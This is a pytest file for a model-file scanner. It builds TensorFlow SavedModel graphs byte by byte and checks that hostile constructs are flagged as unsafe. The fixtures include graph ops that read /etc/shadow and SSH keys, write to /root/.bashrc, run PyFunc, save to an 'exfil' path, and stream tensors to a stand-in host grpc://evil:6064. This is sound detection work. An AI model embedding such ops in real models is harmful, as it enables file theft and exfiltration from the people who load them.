"""TensorFlow graphs that do more than compute: one test per technique, each a SavedModel whose
bytes are written here by a small protobuf encoder (field numbers of meta_graph.proto,
graph.proto, function.proto), never loaded by anything but modelport."""

from __future__ import annotations

from pathlib import Path

import pytest

from modelport.cli import main
from modelport.scan import scan_file


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _len(field: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return _varint(field << 3 | 2) + _varint(len(data)) + data


def _attr(key: str, value: bytes) -> bytes:
    return _len(5, _len(1, key) + _len(2, value))  # NodeDef.attr map entry


def node(name: str, op: str, *inputs: str, strings: tuple[str, ...] = (),
         attrs: dict[str, str] | None = None, func: str | None = None) -> bytes:
    out = _len(1, name) + _len(2, op) + b"".join(_len(3, i) for i in inputs)
    if strings:  # a Const's value: AttrValue.tensor (8) -> TensorProto dtype 7, string_val (8)
        tensor = _varint(1 << 3) + _varint(7) + b"".join(_len(8, s) for s in strings)
        out += _attr("value", _len(8, tensor))
    for k, v in (attrs or {}).items():
        out += _attr(k, _len(2, v))
    if func:
        out += _attr("f", _len(10, _len(1, func)))
    return out


def function(name: str, args: tuple[str, ...], *nodes: bytes) -> bytes:
    signature = _len(1, name) + b"".join(_len(2, _len(1, a)) for a in args)
    return _len(1, signature) + b"".join(_len(3, n) for n in nodes)


def saved_model(nodes: list[bytes], functions: list[bytes] = (),
                saver_filename: str | None = None) -> bytes:
    graph = b"".join(_len(1, n) for n in nodes)
    if functions:
        graph += _len(2, b"".join(_len(1, f) for f in functions))
    info = _len(4, "serve") + _len(5, "2.21.0")
    meta = _len(1, info) + _len(2, graph)
    if saver_filename is not None:  # SaverDef.filename_tensor_name
        meta += _len(3, _len(1, saver_filename))
    return _varint(1 << 3) + _varint(1) + _len(2, meta)


# The standard saver function of every TF2 SavedModel: its path is the caller's argument.
SAVER = function("__inference__traced_save_9", ("file_prefix", "x"),
                 node("StringJoin", "StringJoin", "file_prefix", "Const:output:0"),
                 node("Const", "Const", strings=("_temp/part",)),
                 node("ShardedFilename", "ShardedFilename", "StringJoin:output:0", "n", "n"),
                 node("SaveV2", "SaveV2", "ShardedFilename:filename:0", "names", "slices",
                      "x"),
                 node("MergeV2Checkpoints", "MergeV2Checkpoints", "ShardedFilename:0",
                      "file_prefix"))
BENIGN_GRAPH = [node("saver_filename", "Placeholder"),
                node("call", "StatefulPartitionedCall", "saver_filename",
                     func="__inference__traced_save_9"),
                node("x", "Placeholder"), node("y", "MatMul", "x", "x")]

# technique -> (graph nodes, library functions, rule, subject)
TECHNIQUES: dict[str, tuple[list[bytes], list[bytes], str, str]] = {
    "write-file-in-graph": ([node("p", "Const", strings=("/root/.bashrc",)),
                             node("w", "WriteFile", "p", "x"), node("x", "Placeholder")],
                            [], "tf-file-op", "WriteFile"),
    "read-file-in-function": ([], [function("f", ("s",), node("p", "Const",
                                                              strings=("/etc/shadow",)),
                                            node("r", "ReadFile", "p:output:0"))],
                              "tf-file-op", "ReadFile"),
    "matching-files": ([node("g", "Const", strings=("/home/*/.ssh/*",)),
                        node("m", "MatchingFiles", "g")], [], "tf-file-op", "MatchingFiles"),
    "py-func": ([node("x", "Placeholder"), node("p", "PyFunc", "x", attrs={"token": "pyfunc_0"})],
                [], "tf-py-func", "PyFunc"),
    "eager-py-func": ([], [function("f", ("x",), node("e", "EagerPyFunc", "x"))],
                      "tf-py-func", "EagerPyFunc"),
    "save-to-constant-path": ([], [function("f", ("x",),
                                            node("c", "Const", strings=("/tmp/exfil",)),
                                            node("s", "SaveV2", "c:output:0", "n", "m", "x"))],
                              "tf-constant-path", "SaveV2"),
    "restore-from-constant-path": ([node("c", "Const", strings=("/etc/",)),
                                    node("r", "RestoreV2", "c", "n", "m")], [],
                                   "tf-constant-path", "RestoreV2"),
    "print-to-file": ([node("x", "Placeholder"),
                       node("p", "PrintV2", "x", attrs={"output_stream": "file:///tmp/log"})],
                      [], "tf-file-op", "PrintV2"),
    "custom-op": ([node("x", "Placeholder"), node("k", "ZeroOutEvil", "x")], [],
                  "tf-custom-op", "ZeroOutEvil"),
    "call-to-undefined-function": ([node("c", "PartitionedCall", func="not_in_library")], [],
                                   "tf-missing-function", "not_in_library"),
    "tfrecord-dataset": ([node("f", "Const", strings=("/data/secret.tfrecord",)),
                          node("d", "TFRecordDataset", "f")], [], "tf-file-op",
                         "TFRecordDataset"),
    "debug-identity-url": ([node("x", "Placeholder"),
                            node("d", "DebugIdentity", "x",
                                 attrs={"debug_urls": "grpc://evil:6064"})], [],
                           "tf-debug-op", "DebugIdentity"),
}


def _write(tmp_path: Path, data: bytes) -> Path:
    folder = tmp_path / "sm"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(data)
    return folder


def test_the_standard_saver_and_a_plain_graph_are_clean(tmp_path: Path) -> None:
    folder = _write(tmp_path, saved_model(BENIGN_GRAPH, [SAVER]))
    report = scan_file(folder / "saved_model.pb")
    assert report.format == "tf-savedmodel-pb"
    assert report.verdict == "clean", report.to_json()


@pytest.mark.parametrize("technique", sorted(TECHNIQUES))
def test_technique_is_unsafe(tmp_path: Path, technique: str,
                             capsys: pytest.CaptureFixture[str]) -> None:
    nodes, functions, rule, subject = TECHNIQUES[technique]
    folder = _write(tmp_path, saved_model(BENIGN_GRAPH + nodes, [SAVER, *functions]))
    report = scan_file(folder / "saved_model.pb")
    assert report.verdict == "unsafe", report.to_json()
    assert (rule, subject) in {(f.rule, f.subject) for f in report.unsafe_findings}
    assert main(["scan", str(folder)]) == 1
    capsys.readouterr()


def test_tf1_saver_const_fed_by_the_loader_is_the_callers_path(tmp_path: Path) -> None:
    """A TF1 Saver's path is a Const (save/Const) that the loader overrides with a feed, as
    SaverDef.filename_tensor_name says: not a path fixed in the graph. The same graph without
    the SaverDef writes where the constant says."""
    nodes = [node("save/Const", "Const", strings=("model",)),
             node("save/SaveV2", "SaveV2", "save/Const", "save/names", "save/slices", "v")]
    folder = _write(tmp_path, saved_model(nodes, saver_filename="save/Const:0"))
    assert scan_file(folder / "saved_model.pb").verdict == "clean"
    (folder / "saved_model.pb").write_bytes(saved_model(nodes))
    report = scan_file(folder / "saved_model.pb")
    assert report.verdict == "unsafe"
    assert {f.rule for f in report.unsafe_findings} == {"tf-constant-path"}


def test_a_path_named_as_the_saver_filename_is_only_the_savers(tmp_path: Path) -> None:
    """Review finding: the SaverDef's filename tensor is named by the file itself, so a path
    constant declared as it must not make other ops' paths look like the caller's."""
    nodes = [node("evil", "Const", strings=("/root/.ssh/authorized_keys",)),
             node("t", "HashTableV2"),
             node("init", "InitializeTableFromTextFileV2", "t", "evil")]
    folder = tmp_path / "sm"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(saved_model(nodes, saver_filename="evil:0"))
    report = scan_file(folder / "saved_model.pb")
    assert report.verdict == "unsafe"
    assert "tf-constant-path" in {f.rule for f in report.findings}
